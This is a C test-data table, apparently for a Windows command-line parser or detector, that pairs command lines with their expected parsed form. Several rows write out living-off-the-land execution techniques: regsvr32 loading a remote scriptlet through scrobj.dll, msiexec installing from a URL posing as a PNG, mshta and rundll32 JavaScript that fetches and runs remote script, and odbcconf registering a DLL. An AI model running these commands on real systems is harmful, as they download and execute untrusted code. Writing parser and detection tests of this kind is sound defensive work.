/* SPDX-License-Identifier: Apache-2.0 */
/* Rows of test_windows_command.c: line, recorded image (or NULL), what parsing shows. */
static const struct {
    const char *line, *image, *want;
} rows[] = {
    {"rundll32.exe shell32.dll,Control_RunDLL intl.cpl,,/f:\"C:\\Temp\\settings.xml\"", NULL,
     "rundll32.exe T:shell32.dll C:shell32!Control_RunDLL "
     "A:intl.cpl,,/f:\"C:\\Temp\\settings.xml\""},
    {"regsvr32.exe /s /u /i:\"C:\\A B\\x.sct\" scrobj.dll", NULL,
     "regsvr32.exe /s /u /i=C:\\A B\\x.sct T:scrobj.dll"},
    {"regsvr32.exe /silent -u /\"i\":http://h.example/x scrobj.dll", NULL,
     "regsvr32.exe /s /u /i=http://h.example/x T:scrobj.dll L:8"},
    {"msiexec /q /i https://files.example.org/logo.png", NULL,
     "msiexec.exe /q /i=https://files.example.org/logo.png T:https://files.example.org/logo.png"},
    {"msiexec -Q-I C:\\Users\\Public\\a.msi", NULL,
     "msiexec.exe /q /i=C:\\Users\\Public\\a.msi T:C:\\Users\\Public\\a.msi"},
    {"msiexec /iC:\\x\\y.msi /qn/norestart A=\"b c\"", NULL,
     "msiexec.exe /i=C:\\x\\y.msi /q /norestart T:C:\\x\\y.msi"},
    {"mshta.exe javascript:a=GetObject(\"script:https://files.example.org/p.sct\").Exec();close();",
     NULL,
     "mshta.exe "
     "T:javascript:a=GetObject(\"script:https://files.example.org/p.sct\").Exec();close(); F:2"},
    {"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();", NULL,
     "rundll32.exe T:javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write(); "
     "C:mshtml!RunHTMLApplication A:\";document.write(); F:2"},
    {"odbcconf.exe /S /A {REGSVR \"C:\\A\\x.dll\"}", NULL,
     "odbcconf.exe /s /a /regsvr=C:\\A\\x.dll T:C:\\A\\x.dll"},
    {"\"C:\\Windows\\System32\\rundll32.exe C:\\x\\a.dll,Run",
     "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe T:C:\\x\\a.dll C:a!Run L:2"},
    {" /s C:\\Windows\\SysWOW64\\comdlg32.ocx", "C:\\Windows\\SysWOW64\\regsvr32.exe",
     "regsvr32.exe /s T:C:\\Windows\\SysWOW64\\comdlg32.ocx L:1"},
};
